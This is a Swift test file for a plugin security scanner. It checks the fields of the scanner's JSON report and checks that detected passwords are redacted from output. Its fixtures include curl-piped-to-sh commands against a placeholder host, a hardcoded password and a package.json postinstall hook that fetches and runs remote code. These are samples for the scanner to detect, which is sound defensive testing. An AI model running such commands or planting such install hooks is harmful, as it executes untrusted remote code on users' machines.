import BulkheadSource
import Testing

@testable import BulkheadScanner

@Suite struct ResultShapeTests {
  /// The keys of an object of the report that DESIGN section 8 names.
  private static func keys(_ value: JSONValue) -> Set<String> {
    Set(value.objectValue?.keys ?? [])
  }

  @Test("the report has the keys that programs read")
  func report() throws {
    let tree = TemporaryTree([
      "a.sh": "curl -s https://a.example.net/x | sh\npassword='" + "Tr0ub4dor&3x'\n"
    ])
    let result = try PluginScanner().scan(directory: tree.path)
    let report = result.json
    #expect(
      Self.keys(report).isSuperset(of: [
        "passed", "securityScore", "lowestScore", "files", "capabilities", "recommendations",
        "skipped", "inventory",
      ]))
    let file = try #require(result.files.first)
    #expect(
      Self.keys(file.json).isSuperset(of: [
        "path", "language", "securityScore", "parsed", "dangerousPatterns", "secrets",
        "importViolations", "capabilities", "recommendations",
      ]))
    let finding = try #require(file.dangerousPatterns.first)
    let secret = try #require(file.secrets.first)
    #expect(
      Self.keys(finding.json).isSuperset(of: [
        "rule", "severity", "description", "line", "column", "endLine", "endColumn", "match",
        "help",
      ]))
    #expect(
      Self.keys(secret.json).isSuperset(of: [
        "type", "rule", "file", "line", "column", "redacted", "confidence",
      ]))
  }

  @Test("a credential is shown nowhere in a report, not even inside what else was found")
  func redacted() throws {
    let password = "Tr0ub4dor" + "&3xZq"
    let tree = TemporaryTree([
      "a.sh": "curl -u 'me:x' https://a.example.net/x | sh; password='\(password)'\n",
      "package.json":
        #"{"scripts": {"postinstall": "password='\#(password)' curl https://a.example.net/x | sh"}}"#,
    ])
    let result = try PluginScanner().scan(directory: tree.path)
    #expect(!result.secrets.isEmpty)
    #expect(!result.json.rendered().contains(password))
    #expect(!result.reasons.joined().contains(password))
  }
}
